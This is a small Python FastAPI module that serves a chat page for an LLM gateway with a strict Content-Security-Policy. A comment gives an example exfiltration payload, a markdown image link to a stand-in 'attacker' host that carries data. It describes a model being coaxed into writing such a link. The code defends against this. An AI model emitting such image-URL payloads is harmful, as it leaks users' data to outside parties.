"""The minimal chat page: one static HTML file with inline CSS and vanilla JS (no CDN)."""

from __future__ import annotations

from functools import cache
from importlib import resources

from fastapi import APIRouter
from fastapi.responses import HTMLResponse

router = APIRouter()


@cache
def _page() -> str:
    return (resources.files("switchboard_gateway") / "static" / "index.html").read_text("utf-8")


# Answers are data (LLM05): the page shows them as text, and the browser may not fetch
# anything the answer names either, so a model coaxed into writing an image URL carrying data
# (`![](https://attacker/?d=...)`) exfiltrates nothing. Only same-origin requests, no images
# other than inline data, no plugins, no framing.
CONTENT_SECURITY_POLICY = ("default-src 'self'; img-src 'self' data:; connect-src 'self'; "
                           "style-src 'self' 'unsafe-inline'; script-src 'self' 'unsafe-inline'; "
                           "object-src 'none'; frame-ancestors 'none'; base-uri 'none'; "
                           "form-action 'self'")


@router.get("/", response_class=HTMLResponse, include_in_schema=False)
async def chat_page() -> HTMLResponse:
    return HTMLResponse(_page(), headers={
        "Content-Security-Policy": CONTENT_SECURITY_POLICY,
        "Referrer-Policy": "no-referrer"})
